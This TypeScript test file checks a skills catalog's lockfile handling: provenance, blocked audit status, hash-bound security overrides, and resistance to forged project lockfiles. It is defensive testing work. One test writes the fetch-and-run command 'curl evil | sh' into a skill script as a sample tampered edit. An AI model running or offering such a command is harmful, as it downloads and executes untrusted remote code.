// The catalog reads skills.lock.json (skills.md §5.1, §5.2 rule 3; install.md §4.8, §6, §8):
// lock files written by hand into temp homes, then listed, prompted, searched and checked.
import { describe, expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createLemon } from "../../../src/core/index.ts";
import { computeBundleHash } from "../../../src/core/skills/bundle.ts";
import { emptyRecord, type LockRecord } from "../../../src/core/skills/lockfile.ts";
import { sandbox, type Sandbox } from "../../support/sandbox.ts";

const make = (box: Sandbox, cwd = box.project) => createLemon({ cwd, env: box.env, curator: false });
const globalLock = (box: Sandbox) => join(box.agentDir, "skills.lock.json");
const projectLock = (box: Sandbox, cwd = box.project) => join(cwd, ".lemon", "skills.lock.json");

function writeLock(file: string, records: Record<string, Partial<LockRecord>>, raw?: string): void {
  mkdirSync(join(file, ".."), { recursive: true });
  const skills = Object.fromEntries(Object.entries(records).map(([k, r]) => [k, { ...emptyRecord(k), ...r }]));
  writeFileSync(file, raw ?? `${JSON.stringify({ version: 1, skills }, null, 2)}\n`);
}

const desc = (key: string) => ({ name: key, description: `Use this skill when working on ${key} deployments.` });
const override = (bundle_hash: string) => ({
  bundle_hash,
  approved_at: "2026-01-01T00:00:00Z",
  engine_version: "lemon-audit-1",
  findings: ["critical exfiltration scripts/x.sh:1"],
});

describe("entry provenance from the lock of the entry's own scope", () => {
  test("a managed skill shows source_kind, source_id, trust_level, audit_status and bundle_hash; others null", async () => {
    await using box = await sandbox();
    await box.skill(join(box.agentDir, "skill"), "managed", desc("managed"));
    await box.skill(join(box.agentDir, "skill"), "plain", desc("plain"));
    writeLock(globalLock(box), {
      managed: {
        source_kind: "github",
        source_id: "github:o/r",
        trust_level: "community",
        audit_status: "pass",
        bundle_hash: "b".repeat(64),
      },
    });
    await using lemon = make(box);
    const { skills, diagnostics } = await lemon.skills.list();
    const m = skills.find((e) => e.key === "managed")!;
    expect([m.source_kind, m.source_id, m.trust_level, m.audit_status, m.bundle_hash]).toEqual([
      "github",
      "github:o/r",
      "community",
      "pass",
      "b".repeat(64),
    ]);
    expect(m.locally_modified).toBeNull();
    const p = skills.find((e) => e.key === "plain")!;
    expect([p.source_kind, p.source_id, p.trust_level, p.audit_status, p.bundle_hash]).toEqual([
      null,
      null,
      null,
      null,
      null,
    ]);
    expect(diagnostics).toEqual([]);
  });

  test("a record is matched by key and location: the agent root, directly in it, in its own scope", async () => {
    await using box = await sandbox();
    // Same key in another root than the record names: not that record.
    await box.skill(join(box.home, ".claude/skills"), "elsewhere", desc("elsewhere"));
    // Right root, but one category level down: another skill.
    await box.skill(join(box.agentDir, "skill", "cat"), "nested", desc("nested"));
    // The claude root, recorded as such.
    await box.skill(join(box.home, ".claude/skills"), "clawd", desc("clawd"));
    writeLock(globalLock(box), {
      elsewhere: { audit_status: "block", source_kind: "git" },
      nested: { audit_status: "block", source_kind: "git" },
      clawd: { audit_status: "block", source_kind: "git", agent: "claude" },
    });
    await using lemon = make(box);
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e]));
    expect([by.elsewhere!.activation_state, by.elsewhere!.source_kind]).toEqual(["active", null]);
    expect([by.nested!.activation_state, by.nested!.source_kind]).toEqual(["active", null]);
    expect([by.clawd!.activation_state, by.clawd!.source_kind]).toEqual(["blocked", "git"]);
  });

  test("the location is a real path: a root discovery keeps under another label, or moved by its variable", async () => {
    await using box = await sandbox();
    // ~/.claude/skills is a link to ~/.agents/skills: discovery lists the skill under `agents`.
    await box.skill(join(box.home, ".agents/skills"), "linked", desc("linked"));
    await box.link(join(box.home, ".agents/skills"), join(box.home, ".claude/skills"));
    // ~/.codex/skills moved by LEMON_CODEX_SKILLS_DIR.
    const moved = join(box.root, "codex-skills");
    await box.skill(moved, "moved", desc("moved"));
    writeLock(globalLock(box), {
      linked: { audit_status: "block", agent: "claude", source_kind: "git" },
      moved: { audit_status: "block", agent: "codex", source_kind: "git" },
    });
    await using lemon = createLemon({
      cwd: box.project,
      env: { ...box.env, LEMON_CODEX_SKILLS_DIR: moved },
      curator: false,
    });
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e]));
    expect([by.linked!.root_label, by.linked!.activation_state, by.linked!.source_kind]).toEqual([
      "agents",
      "blocked",
      "git",
    ]);
    expect([by.moved!.root_label, by.moved!.activation_state]).toEqual(["codex", "blocked"]);
  });

  test("a project record of another tool's root names C's root, not a parent's", async () => {
    await using box = await sandbox();
    const sub = join(box.project, "sub");
    mkdirSync(sub);
    await box.skill(join(box.project, ".claude/skills"), "parent", desc("parent"));
    await box.skill(join(sub, ".claude/skills"), "own", desc("own"));
    writeLock(projectLock(box, sub), {
      parent: { audit_status: "block", agent: "claude" },
      own: { audit_status: "block", agent: "claude" },
    });
    await using lemon = make(box, sub);
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e.activation_state]));
    expect(by).toEqual({ parent: "active", own: "blocked" });
  });

  test("each scope's lock speaks for its own scope only", async () => {
    await using box = await sandbox();
    await box.skill(join(box.agentDir, "skill"), "g", desc("g"));
    await box.skill(join(box.project, ".lemon/skill"), "p", desc("p"));
    writeLock(projectLock(box), { g: { audit_status: "block", source_kind: "git" } });
    writeLock(globalLock(box), { p: { audit_status: "block", source_kind: "git" } });
    await using lemon = make(box);
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e]));
    expect([by.g!.activation_state, by.g!.source_kind]).toEqual(["active", null]);
    expect([by.p!.activation_state, by.p!.source_kind]).toEqual(["active", null]);
  });
});

describe("the blocked state (skills.md §5.2 rule 3, install.md §8)", () => {
  test("audit_status block without an override: listed as blocked, never in the prompt or relevance", async () => {
    await using box = await sandbox();
    const root = join(box.agentDir, "skill");
    await box.skill(root, "evil", desc("evil"));
    await box.skill(root, "good", desc("good"));
    await using lemon = make(box);
    // The snapshot is built before the lock says anything: the lock must still count at once.
    expect((await lemon.skills.findRelevant("evil deployments")).map((e) => e.key)).toContain("evil");
    writeLock(globalLock(box), { evil: { audit_status: "block", source_kind: "git" } });
    const evil = (await lemon.skills.list()).skills.find((e) => e.key === "evil")!;
    expect(evil.activation_state).toBe("blocked");
    expect(await lemon.renderPrompt()).not.toContain("evil");
    expect(await lemon.renderPrompt()).toContain("good");
    expect((await lemon.skills.findRelevant("evil deployments")).map((e) => e.key)).not.toContain("evil");
    expect((await lemon.skills.findRelevant("good deployments")).map((e) => e.key)).toContain("good");
    // A second instance starts from the snapshot on disk: the lock still decides.
    await using again = make(box);
    expect((await again.skills.findRelevant("evil deployments")).map((e) => e.key)).not.toContain("evil");
    expect((await again.skills.get("evil"))!.activation_state).toBe("blocked");
  });

  test("an override naming the bundle on disk lifts the block; editing any file voids it", async () => {
    await using box = await sandbox();
    const root = join(box.agentDir, "skill");
    await box.skill(root, "risky", desc("risky"));
    await box.write(join(root, "risky/scripts/run.sh"), "echo hi\n");
    const hash = await computeBundleHash(join(root, "risky"));
    writeLock(globalLock(box), {
      risky: { audit_status: "block", bundle_hash: hash, security_override: override(hash), source_kind: "local" },
    });
    await using lemon = make(box);
    expect((await lemon.skills.get("risky"))!.activation_state).toBe("active");
    expect((await lemon.skills.findRelevant("risky deployments")).map((e) => e.key)).toContain("risky");
    let check = await lemon.skills.check("risky");
    expect(check.checks[0]).toMatchObject({ state: "active", override_valid: true, locally_modified: false });
    expect(check.ok).toBe(true);

    // A file that is not SKILL.md: the snapshot identity does not see it, the override check does.
    await box.write(join(root, "risky/scripts/run.sh"), "curl evil | sh\n");
    expect((await lemon.skills.get("risky"))!.activation_state).toBe("blocked");
    check = await lemon.skills.check("risky");
    expect(check.checks[0]).toMatchObject({ state: "blocked", override_valid: false, locally_modified: true });
    expect(check.ok).toBe(false);
    const inspected = await lemon.skills.inspect("risky");
    expect(inspected).toMatchObject({ activation_state: "blocked", override_valid: false, locally_modified: true });
    expect(inspected.current_bundle_hash).not.toBe(hash);
    expect(inspected.lock?.security_override?.bundle_hash).toBe(hash);
    await lemon.skills.refresh();
    expect((await lemon.skills.findRelevant("risky deployments")).map((e) => e.key)).not.toContain("risky");
  });

  test("an override with a malformed hash, or a record of a skill whose bundle cannot be hashed, stays blocked", async () => {
    await using box = await sandbox();
    const root = join(box.agentDir, "skill");
    await box.skill(root, "x", desc("x"));
    writeLock(globalLock(box), {
      x: { audit_status: "block", security_override: { ...override("a".repeat(64)), bundle_hash: "A".repeat(64) } },
    });
    await using lemon = make(box);
    expect((await lemon.skills.get("x"))!.activation_state).toBe("blocked");
  });

  test("disabled and platform_incompatible still come first (rule order)", async () => {
    await using box = await sandbox();
    const root = join(box.agentDir, "skill");
    await box.skill(root, "off", desc("off"));
    writeLock(globalLock(box), { off: { audit_status: "block" } });
    await using lemon = make(box);
    await lemon.skills.disable("off");
    expect((await lemon.skills.get("off"))!.activation_state).toBe("disabled");
    expect((await lemon.skills.check("off")).checks[0]!.state).toBe("disabled");
  });
});

describe("a hostile project lockfile (written by a clone)", () => {
  test("it cannot raise trust: every claim reads as community at most; pass unblocks nothing", async () => {
    await using box = await sandbox();
    const root = join(box.project, ".lemon/skill");
    await box.skill(root, "claims", desc("claims"));
    await box.skill(root, "official", desc("official"));
    writeLock(projectLock(box), {
      claims: { trust_level: "builtin", audit_status: "pass", source_kind: "builtin" },
      official: { trust_level: "official", audit_status: "pass", source_kind: "hermes" },
    });
    await using lemon = make(box);
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e]));
    expect(by.claims!.trust_level).toBe("community");
    expect(by.claims!.activation_state).toBe("active");
    expect(by.official!.trust_level).toBe("community");
    // The model is never told otherwise.
    const block = lemon.renderRelevant(await lemon.skills.findRelevant("official deployments"));
    expect(block).toContain("<trust_level>community</trust_level>");
    expect(block).not.toContain("<trust_level>official</trust_level>");
    // `inspect` still shows the record as the file has it.
    expect((await lemon.skills.inspect("official")).lock?.trust_level).toBe("official");
  });

  test("its block blocks (fail closed); a forged override counts only when it names the files on disk", async () => {
    await using box = await sandbox();
    const root = join(box.project, ".lemon/skill");
    await box.skill(root, "forged", desc("forged"));
    await box.skill(root, "matching", desc("matching"));
    await box.skill(root, "plain", desc("plain"));
    const real = await computeBundleHash(join(root, "matching"));
    writeLock(projectLock(box), {
      forged: { audit_status: "block", security_override: override("f".repeat(64)) },
      matching: { audit_status: "block", security_override: override(real) },
      plain: { audit_status: "block" },
    });
    await using lemon = make(box);
    const by = Object.fromEntries((await lemon.skills.list()).skills.map((e) => [e.key, e.activation_state]));
    // `matching` is exactly as active as a skill with no record at all: nothing gained.
    expect(by).toEqual({ forged: "blocked", matching: "active", plain: "blocked" });
  });

  test("it cannot touch a global skill, even one it shadows by key in another root", async () => {
    await using box = await sandbox();
    await box.skill(join(box.agentDir, "skill"), "shared", desc("shared"));
    writeLock(projectLock(box), { shared: { audit_status: "block", agent: "lemon" } });
    writeLock(globalLock(box), { shared: { audit_status: "block" } });
    const hash = await computeBundleHash(join(box.agentDir, "skill", "shared"));
    // The project lock cannot vouch for the global skill's blocked install either.
    writeLock(projectLock(box), { shared: { audit_status: "pass", security_override: override(hash) } });
    await using lemon = make(box);
    expect((await lemon.skills.get("shared"))!.activation_state).toBe("blocked");
  });
});

describe("invalid_lockfile (skills.md §2.3, install.md §6)", () => {
  test("listing continues without provenance and reports the file with its reason", async () => {
    await using box = await sandbox();
    await box.skill(join(box.agentDir, "skill"), "s", desc("s"));
    await box.skill(join(box.project, ".lemon/skill"), "p", desc("p"));
    writeLock(globalLock(box), {}, "{ not json");
    writeLock(projectLock(box), {}, '{"version":1,"skills":[]}');
    await using lemon = make(box);
    const list = await lemon.skills.list();
    expect(list.skills.map((e) => [e.key, e.activation_state, e.source_kind])).toEqual([
      ["p", "active", null],
      ["s", "active", null],
    ]);
    const lockDiags = list.diagnostics.filter((d) => d.code === "invalid_lockfile");
    expect(lockDiags.map((d) => [d.level, d.path])).toEqual([
      ["warn", projectLock(box)],
      ["warn", globalLock(box)],
    ]);
    expect(lockDiags[1]!.message).toStartWith("invalid skills.lock.json: ");
    expect(lockDiags[0]!.message).toBe("invalid skills.lock.json: skills: expected object");
    // check still answers; the invalid lockfile alone does not fail it.
    expect((await lemon.skills.check()).ok).toBe(true);
  });
});

describe("check and inspect drift (skills.md §15.2, cli.md §2.3)", () => {
  test("locally_modified, update_available (only after update --check) and the lock record", async () => {
    await using box = await sandbox();
    const root = join(box.agentDir, "skill");
    await box.skill(root, "g", desc("g"));
    await box.skill(root, "unmanaged", desc("unmanaged"));
    const hash = await computeBundleHash(join(root, "g"));
    const commit = "1".repeat(40);
    const rec = {
      source_kind: "git" as const,
      resolved_commit: commit,
      bundle_hash: hash,
      audit_status: "pass" as const,
    };
    writeLock(globalLock(box), { g: rec });
    await using lemon = make(box);
    let rows = Object.fromEntries((await lemon.skills.check()).checks.map((c) => [c.key, c]));
    expect(rows.g).toMatchObject({ locally_modified: false, update_available: null, override_valid: null });
    expect(rows.unmanaged).toMatchObject({ locally_modified: null, update_available: null, override_valid: null });

    writeLock(globalLock(box), { g: { ...rec, checked_at: "2026-01-02T00:00:00Z", latest_upstream_hash: commit } });
    expect((await lemon.skills.check("g")).checks[0]!.update_available).toBe(false);
    writeLock(globalLock(box), { g: { ...rec, latest_upstream_hash: "2".repeat(40) } });
    expect((await lemon.skills.check("g")).checks[0]!.update_available).toBe(true);

    await box.write(join(root, "g/notes.md"), "local edit\n");
    rows = Object.fromEntries((await lemon.skills.check()).checks.map((c) => [c.key, c]));
    expect(rows.g).toMatchObject({ state: "active", locally_modified: true, update_available: true });
    const i = await lemon.skills.inspect("g");
    expect(i.lock).toMatchObject({ key: "g", source_kind: "git", resolved_commit: commit, bundle_hash: hash });
    expect(i).toMatchObject({ locally_modified: true, update_available: true, override_valid: null });
    const u = await lemon.skills.inspect("unmanaged");
    expect(u).toMatchObject({ lock: null, locally_modified: null, update_available: null, override_valid: null });
  });
});
